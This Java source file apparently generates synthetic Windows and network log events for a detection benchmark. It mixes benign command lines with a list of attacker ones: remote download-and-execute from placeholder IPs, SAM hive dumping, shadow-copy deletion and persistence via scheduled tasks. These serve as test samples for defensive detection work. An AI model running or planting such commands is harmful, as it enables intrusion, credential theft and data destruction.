package jp.sekisho.bench.detect;

import java.util.SplittableRandom;

/// What events are made of.
final class Words {
    private static final String[] HOSTS = {"WS-0", "WS-1", "SRV-", "KIOSK-"};
    private static final String[] USERS = {
        "KOHOKU\\tanaka", "KOHOKU\\suzuki", "NT AUTHORITY\\SYSTEM", "KOHOKU\\kanri", "KOHOKU\\sato"
    };
    private static final String[] FOLDERS = {
        "C:\\Windows\\System32\\",
        "C:\\Program Files\\Common Files\\",
        "C:\\Users\\tanaka\\AppData\\Local\\Temp\\",
        "C:\\Users\\suzuki\\デスクトップ\\",
        "D:\\業務\\人事給与\\"
    };
    private static final String[] PROGRAMS = {
        "svchost.exe",
        "explorer.exe",
        "msedge.exe",
        "cmd.exe",
        "powershell.exe",
        "taskhostw.exe",
        "EXCEL.EXE",
        "WINWORD.EXE",
        "rundll32.exe",
        "conhost.exe",
        "ichitaro.exe",
        "wmiprvse.exe"
    };
    private static final String[] DAILY = {
        "-k netsvcs -p -s Schedule",
        "--type=renderer --lang=ja",
        "/dde \"令和8年度_台帳.xlsx\"",
        "-Embedding",
        "/c dir",
        "-NoProfile -Command Get-Date",
        "C:\\Windows\\System32\\shell32.dll,Control_RunDLL",
        "{1f486a52-3cb1-48fd-8f50-b8dc300d9f9d}"
    };
    private static final String[] SUSPICIOUS = {
        "-nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAA",
        "/c whoami /all & net group \"domain admins\" /domain",
        "process call create \"cmd.exe /c vssadmin delete shadows /all /quiet\"",
        "-urlcache -split -f http://203.0.113.7/a.exe C:\\Users\\Public\\a.exe",
        "/create /tn update /tr C:\\Users\\Public\\u.bat /sc minute",
        "javascript:\"\\..\\mshtml,RunHTMLApplication \";document.write()",
        "save HKLM\\SAM C:\\Windows\\Temp\\sam.hiv",
        "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.3/p.ps1')"
    };
    private static final String[] EXTENSIONS = {
        ".tmp", ".xlsx", ".docx", ".dll", ".exe", ".log", ".ps1", ".lnk", ".pdf"
    };
    private static final String[] SCRIPT = {
        "function Get-Inventory {\r\n    param([string]$Name, [int]$Depth = 2)\r\n",
        "    $items = Get-ChildItem -Path \"C:\\業務\\$Name\" -Recurse -Depth $Depth\r\n",
        "    foreach ($item in $items) {\r\n        Write-Output \"$($item.FullName)`t$($item.Length)\"\r\n    }\r\n",
        "    # 台帳を更新する\r\n    Export-Csv -Path .\\台帳.csv -Encoding UTF8 -NoTypeInformation\r\n",
        "    if ($LASTEXITCODE -ne 0) { throw \"failed: $Name\" }\r\n}\r\n",
        "    Invoke-RestMethod -Uri https://intra.example/api/v1/devices -Method Get\r\n"
    };
    private static final String[] NAMES = {
        "www.example.jp", "update.example.com", "cdn.example.net", "mail.example.lg.jp"
    };

    private Words() {}

    private static String one(SplittableRandom random, String... words) {
        return words[random.nextInt(words.length)];
    }

    static String hex(SplittableRandom random, int digits) {
        StringBuilder text = new StringBuilder(digits);
        for (int i = 0; i < digits; i++) {
            text.append(Character.forDigit(random.nextInt(16), 16));
        }
        return text.toString();
    }

    private static String address(SplittableRandom random) {
        return "10.%d.%d.%d".formatted(random.nextInt(4), random.nextInt(256), random.nextInt(256));
    }

    private static Line sysmon(SplittableRandom random, int event, Line line) {
        return line.text("Channel", "Microsoft-Windows-Sysmon/Operational")
                .number("EventID", event)
                .text("Provider_Name", "Microsoft-Windows-Sysmon")
                .text("Computer", one(random, HOSTS) + random.nextInt(40))
                .text(
                        "UtcTime",
                        "2026-11-24 0%d:%02d:%02d.%03d"
                                .formatted(
                                        random.nextInt(10),
                                        random.nextInt(60),
                                        random.nextInt(60),
                                        random.nextInt(1000)))
                .text("User", one(random, USERS));
    }

    static void process(SplittableRandom random, boolean suspicious, Line line) {
        String program = one(random, PROGRAMS);
        String parent = one(random, PROGRAMS);
        String image = one(random, FOLDERS) + program;
        sysmon(random, 1, line)
                .text("Image", image)
                .text("OriginalFileName", program)
                .text(
                        "CommandLine",
                        "\""
                                + image
                                + "\" "
                                + (suspicious ? one(random, SUSPICIOUS) : one(random, DAILY))
                                + " "
                                + hex(random, 4))
                .text("CurrentDirectory", one(random, FOLDERS))
                .text("ParentImage", one(random, FOLDERS) + parent)
                .text("ParentCommandLine", parent + " " + one(random, DAILY))
                .text("IntegrityLevel", one(random, "Medium", "High", "System"))
                .text("Hashes", "SHA256=" + hex(random, 64) + ",IMPHASH=" + hex(random, 32))
                .text("ProcessGuid", "{" + hex(random, 32) + "}")
                .number("ProcessId", random.nextInt(65536))
                .text("Company", "Microsoft Corporation")
                .text("Product", "Microsoft® Windows® Operating System");
    }

    static void file(SplittableRandom random, Line line) {
        sysmon(random, 11, line)
                .text("Image", one(random, FOLDERS) + one(random, PROGRAMS))
                .text(
                        "TargetFilename",
                        one(random, FOLDERS) + hex(random, 8) + one(random, EXTENSIONS))
                .text("ProcessGuid", "{" + hex(random, 32) + "}")
                .number("ProcessId", random.nextInt(65536));
    }

    static void script(SplittableRandom random, Line line) {
        StringBuilder text = new StringBuilder();
        for (int i = 4 + random.nextInt(40); i > 0; i--) {
            text.append(one(random, SCRIPT));
        }
        line.text("Channel", "Microsoft-Windows-PowerShell/Operational")
                .number("EventID", 4104)
                .text("Computer", one(random, HOSTS) + random.nextInt(40))
                .text("ScriptBlockText", text + hex(random, 12))
                .text("Path", "C:\\業務\\" + hex(random, 6) + ".ps1");
    }

    static void network(SplittableRandom random, Line line) {
        String source = address(random);
        switch (random.nextInt(4)) {
            case 0 ->
                    line.text("_path", "dns")
                            .number("ts", 1764000000 + random.nextInt(86400))
                            .text("uid", "C" + hex(random, 16))
                            .text("id.orig_h", source)
                            .text("id.resp_h", "10.0.0.53")
                            .text("query", hex(random, 6) + "." + one(random, NAMES))
                            .text("qtype_name", one(random, "A", "AAAA", "TXT"));
            case 1 ->
                    line.text("event_type", "http")
                            .number("flow_id", random.nextInt(1 << 30))
                            .text("src_ip", source)
                            .text("dest_ip", "203.0.113." + random.nextInt(256))
                            .text("http.hostname", one(random, NAMES))
                            .text("http.url", "/" + hex(random, 8) + "?q=" + hex(random, 4))
                            .text("http.http_user_agent", one(random, "Mozilla/5.0", "curl/8.5"));
            case 2 ->
                    line.text("squid_code", "TCP_MISS")
                            .text("c-ip", source)
                            .text("c-uri", "https://" + one(random, NAMES) + "/" + hex(random, 8))
                            .text("cs-method", one(random, "GET", "POST", "CONNECT"))
                            .number(
                                    "sc-status",
                                    one(random, "200", "404").equals("200") ? 200 : 404);
            default ->
                    line.text("devid", "FG100")
                            .text("logid", "0000000013")
                            .text("type", "traffic")
                            .text("srcip", source)
                            .text("dstip", "198.51.100." + random.nextInt(256))
                            .number("dstport", random.nextInt(1024))
                            .text("action", one(random, "accept", "deny"));
        }
    }
}
